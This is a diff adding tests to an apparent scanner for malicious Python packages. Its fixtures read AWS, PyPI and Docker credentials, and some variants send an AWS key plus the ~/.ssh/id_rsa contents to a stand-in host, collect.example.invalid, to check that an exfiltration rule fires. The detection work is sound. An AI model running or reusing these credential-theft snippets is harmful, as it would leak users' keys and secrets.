@@ -448,3 +448,60 @@ def test_aliases_decoders_and_data_are_followed_across_the_packages_modules(
         "def load(text):\n    return unpack(text)\n"
     )
     assert not _rules(_wheel(tmp_path / "b", files))
+
+
+_AWS_CLIENT = (
+    "import configparser, os, urllib.request\n\n"
+    "def list_buckets(url='https://s3.amazonaws.com/'):\n"
+    "    cp = configparser.ConfigParser()\n"
+    "    cp.read(os.path.expanduser('~/.aws/credentials'))\n"
+    "    key = cp['default']['aws_access_key_id']\n"
+    "    req = urllib.request.Request(url, headers={'Authorization': key})\n"
+    "    return urllib.request.urlopen(req).read()\n"
+)
+_UPLOADER = (
+    "import configparser, os, urllib.request, base64, keyring\n\n"
+    "def upload(path):\n"
+    "    cp = configparser.ConfigParser()\n"
+    "    cp.read(os.path.expanduser('~/.pypirc'))\n"
+    "    pw = cp.get('pypi', 'password', fallback=None) or keyring.get_password("
+    "'https://upload.pypi.org/legacy/', 'user')\n"
+    "    auth = base64.b64encode(f'user:{pw}'.encode()).decode()\n"
+    "    req = urllib.request.Request('https://upload.pypi.org/legacy/', "
+    "data=open(path, 'rb').read(), headers={'Authorization': 'Basic ' + auth})\n"
+    "    return urllib.request.urlopen(req).status\n"
+)
+_REGISTRY_CLIENT = (
+    "import json, os, urllib.request\n\n"
+    "def login_check(registry='https://index.docker.io/v1/'):\n"
+    "    cfg = os.path.join(os.path.expanduser('~'), '.docker', 'config.json')\n"
+    "    with open(cfg) as f:\n"
+    "        tok = json.load(f).get('auths', {}).get(registry, {}).get('auth')\n"
+    "    req = urllib.request.Request(registry, headers={'Authorization': 'Basic ' + tok})\n"
+    "    return urllib.request.urlopen(req).status\n"
+)
+
+
+@pytest.mark.parametrize("client", [_AWS_CLIENT, _UPLOADER, _REGISTRY_CLIENT])
+def test_api_clients_sending_a_credential_to_its_own_service_are_not_exfiltration(
+    tmp_path: Path, client: str
+) -> None:
+    # the red team's benign lookalikes of boto/aws-cli, twine and the docker SDK (2026-12-07)
+    found = _wheel(tmp_path / "a", {"demo/client.py": client})
+    assert not _rules(found) and not _rules(found, "medium"), found
+    assert {f.severity for f in found if f.rule == "credentials-to-own-service"} == {"low"}
+    # run by itself, it is refused all the same
+    at_import = client + "\n" + client.split("def ", 1)[1].split("(", 1)[0] + "()\n"
+    found = _wheel(tmp_path / "b", {"demo/client.py": at_import})
+    assert "credentials-to-own-service" in {r for r, _f, _l in _rules(found)}
+
+
+def test_a_credential_sent_anywhere_else_is_exfiltration_at_runtime_too(tmp_path: Path) -> None:
+    elsewhere = _AWS_CLIENT.replace("https://s3.amazonaws.com/", "https://collect.example.invalid/")
+    mixed = _AWS_CLIENT.replace(
+        "cp['default']['aws_access_key_id']",
+        "cp['default']['aws_access_key_id'] + open(os.path.expanduser('~/.ssh/id_rsa')).read()",
+    )
+    for index, source in enumerate([elsewhere, mixed]):
+        found = _wheel(tmp_path / str(index), {"demo/client.py": source})
+        assert "exfil-credentials" in {r for r, _f, _l in _rules(found)}, found
